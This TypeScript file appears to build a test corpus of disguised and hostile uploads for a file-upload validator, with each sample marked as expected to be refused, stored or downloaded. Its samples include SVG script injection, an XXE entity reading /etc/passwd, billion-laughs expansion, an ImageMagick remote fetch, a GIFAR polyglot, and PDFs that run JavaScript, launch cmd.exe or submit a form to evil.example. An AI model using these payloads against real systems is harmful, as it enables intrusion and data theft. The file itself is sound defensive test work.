import { gzipSync } from 'node:zlib';

import { smallJpeg } from './jpeg.ts';
import { smallPng } from './png.ts';
import { MARK, PAYLOADS, type Sample } from './sample.ts';

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert("${MARK}")</script></svg>`;

/** First bytes of other file types. */
const BEGINNINGS: Record<string, string | Buffer> = {
  'TIFF, little-endian': 'II*\0\x08\0\0\0',
  'TIFF, big-endian': 'MM\0*\0\0\0\x08',
  BigTIFF: 'II+\0\x08\0\0\0',
  WebP: 'RIFF\x24\0\0\0WEBPVP8 ',
  GIF87: 'GIF87a\x01\0\x01\0',
  GIF89: 'GIF89a\x01\0\x01\0',
  GIFAR: Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0'), PAYLOADS['jar'] ?? Buffer.alloc(0)]),
  BMP: 'BM\x46\0\0\0\0\0\0\0\x36\0\0\0',
  HEIC: '\0\0\0\x18ftypheic\0\0\0\0',
  HEIF: '\0\0\0\x18ftypmif1\0\0\0\0',
  AVIF: '\0\0\0\x18ftypavif\0\0\0\0',
  MP4: '\0\0\0\x18ftypisom\0\0\0\0',
  PSD: '8BPS\0\x01',
  icon: '\0\0\x01\0\x01\0',
  cursor: '\0\0\x02\0\x01\0',
  'JPEG 2000': '\0\0\0\x0cjP  \r\n\x87\n',
  'JPEG 2000 stream': '\xff\x4f\xff\x51',
  'JPEG XL': '\0\0\0\x0cJXL \r\n\x87\n',
  'JPEG XL stream': '\xff\x0a',
  'JPEG LS': '\xff\xd8\x00\xf7',
  PCX: '\x0a\x05\x01\x08',
  PostScript: '%!PS-Adobe-3.0 EPSF-3.0\n',
  XPM: '/* XPM */\n',
  PPM: 'P6\n1 1\n255\n',
  Radiance: '#?RADIANCE\n',
  OpenEXR: '\x76\x2f\x31\x01',
  FITS: 'SIMPLE  =                    T',
  'MNG animation': '\x8aMNG\r\n\x1a\n',
  SVG,
  'SVG with a prologue': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`,
  'SVG after a byte order mark': Buffer.from(`\ufeff${SVG}`, 'utf8'),
  'SVG in UTF-16': Buffer.from(`\ufeff${SVG}`, 'utf16le'),
  'packed SVG': gzipSync(SVG),
  'SVG of a billion laughs': `<!DOCTYPE svg [<!ENTITY a "${MARK}"><!ENTITY b "&a;&a;&a;&a;">]>${SVG}`,
  'ImageMagick script': `push graphic-context\nimage over 0,0 0,0 'https://${MARK}.example/'\n`,
  ZIP: 'PK\x03\x04',
  ELF: '\x7fELF\x02\x01',
  'Java class': '\xca\xfe\xba\xbe',
  WebAssembly: '\0asm\x01\0\0\0',
  SQLite: 'SQLite format 3\0',
  RAR: 'Rar!\x1a\x07',
  Flash: 'CWS\x0a',
  RTF: '{\\rtf1',
  'Word document': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
  'a JPEG after a space': ' \xff\xd8\xff\xe0',
  'a PNG after a line end': '\n\x89PNG\r\n\x1a\n',
  'a PNG with Unix line ends': '\x89PNG\n\x1a\n',
  'a PDF after 10 bytes': `          %PDF-1.4\n${MARK}`,
  'a PDF of version 9': `%PDF-9.9\n${MARK}`,
};

function otherTypes(): Sample[] {
  return Object.entries(BEGINNINGS).flatMap(([name, beginning], index): Sample[] => {
    const head = typeof beginning === 'string' ? Buffer.from(beginning, 'latin1') : beginning;
    const body = Buffer.concat([head, Buffer.from(MARK), Buffer.alloc(200)]);
    const type = index % 2 === 0 ? 'image/jpeg' : 'image/png';
    return [
      { name: `${name} as a photo`, body, type, fate: 'refused' },
      { name: `${name} as a document`, body, type: 'application/pdf', kind: 'attachment', fate: 'refused' },
    ];
  });
}

function disguised(): Sample[] {
  const photos = Object.entries(PAYLOADS).map(([name, body]): Sample => ({
    name: `${name} named .jpg`,
    body,
    fate: 'refused',
  }));
  const others = Object.entries(PAYLOADS).filter(([name]) => name !== 'pdf');
  return photos.concat(
    others.map(([name, body]): Sample => ({
      name: `${name} as a document`,
      body,
      kind: 'attachment',
      fate: 'refused',
    })),
  );
}

/** PDFs: refused with an action, else stored unchanged and only served as a download. */
function documents(): Sample[] {
  const pdf = (inside: string) => Buffer.from(`%PDF-1.7\n${inside}\n%%EOF\n`, 'latin1');
  const active = {
    'a script': pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj'),
    'a program to start': pdf('1 0 obj<</S/Launch/F(cmd.exe)>>endobj'),
    'a form that is sent': pdf('1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'),
  };
  const passive = {
    'HTML behind it': pdf(PAYLOADS['html']?.toString() ?? ''),
    'a ZIP behind it': pdf(PAYLOADS['jar']?.toString('latin1') ?? ''),
    'a JPEG inside': pdf('\xff\xd8\xff\xe0JFIF'),
  };
  return Object.entries({ ...active, ...passive }).flatMap(([name, body]): Sample[] => [
    {
      name: `PDF with ${name}, as a document`,
      body,
      kind: 'attachment',
      type: 'application/pdf',
      fate: name in active ? 'refused' : 'download',
    },
    { name: `PDF with ${name}, as a photo`, body, type: 'image/jpeg', fate: 'refused' },
  ]);
}

async function wrongTypes(): Promise<Sample[]> {
  const photo = await smallJpeg();
  return [
    { name: 'JPEG declared as PNG', body: photo, type: 'image/png', fate: 'stored' },
    { name: 'PNG declared as JPEG', body: smallPng(), type: 'image/jpeg', fate: 'stored' },
    { name: 'PNG declared as PDF', body: smallPng(), type: 'application/pdf', kind: 'attachment', fate: 'stored' },
    { name: 'JPEG declared as HTML', body: photo, type: 'text/html', fate: 'refused' },
    { name: 'JPEG declared as SVG', body: photo, type: 'image/svg+xml', fate: 'refused' },
    { name: 'JPEG declared as JSON', body: photo, type: 'application/json', fate: 'refused' },
    { name: 'no byte', body: Buffer.alloc(0), fate: 'refused' },
    { name: 'one byte', body: Buffer.from([0xff]), fate: 'refused' },
    { name: 'zeros', body: Buffer.alloc(1_000_000), fate: 'refused' },
    { name: '10 MB and one byte', body: Buffer.alloc(10 * 1024 * 1024 + 1, photo), fate: 'refused' },
    {
      name: '10 MB and one byte of PDF',
      body: Buffer.alloc(10 * 1024 * 1024 + 1, '%PDF-1.4 '),
      kind: 'attachment',
      fate: 'refused',
    },
  ];
}

/** Files that start as neither JPEG nor PNG, and files with a wrong declared type. */
export async function otherCorpus(): Promise<Sample[]> {
  return [...otherTypes(), ...disguised(), ...documents(), ...(await wrongTypes())];
}
